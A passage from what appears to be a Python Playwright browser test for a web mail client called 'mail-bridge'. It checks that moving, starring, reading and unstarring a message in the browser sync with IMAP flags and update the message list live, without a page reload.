    await expect(messages.get_by_role("button", name=f"Move {tag}")).to_have_count(0, timeout=15_000)
    await expect(messages.get_by_role("button", name=f"Star {tag}")).to_contain_text("(starred)")
    await expect(messages.get_by_role("button", name=f"Read {tag}")).not_to_contain_text("(unread)")
    await expect(page).to_have_title("(1) INBOX — mail-bridge")
    await expect(page.get_by_role("navigation", name="Mailboxes").get_by_role("button", name="Later")).to_be_visible()

    # Unstarred in the browser: the IMAP flag goes, and the change comes back to the list.
    await messages.get_by_role("button", name=f"Star {tag}").click()
    opened = page.get_by_role("region", name="Message")  # its Star button, not the list's Starred filter
    await opened.get_by_role("button", name="Starred", exact=True).click()
    await expect(messages.get_by_role("button", name=f"Star {tag}")).not_to_contain_text("(starred)", timeout=15_000)
    await expect(opened.get_by_role("button", name="Star", exact=True)).to_be_visible()
    assert await page.evaluate("() => window.notReloaded === true")  # all of it live, no reload
    await page.close()
